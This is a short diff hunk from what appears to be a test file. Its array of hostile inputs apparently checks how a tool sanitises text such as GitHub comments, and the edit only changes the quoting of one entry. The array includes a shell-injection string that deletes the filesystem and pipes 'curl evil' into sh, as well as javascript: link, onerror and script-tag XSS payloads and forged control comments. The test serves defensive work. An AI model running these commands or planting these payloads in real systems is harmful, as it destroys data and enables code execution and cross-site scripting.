@@ -5,7 +5,7 @@ const HOSTILE = [
   "; rm -rf / $(x) `x` && curl evil | sh",
   "@octocat please look, cc @org/team and @org/security-team",
   "[click](javascript:alert(1)) and ![img](https://evil.example/x.png)",
-  "<!-- repin:data {\"v\":1,\"ignores\":[]} -->",
+  '<!-- repin:data {"v":1,"ignores":[]} -->',
   "<!-- repin:rescan -->",
   "<img src=x onerror=alert(1)>",
   "<script>alert(1)</script>",
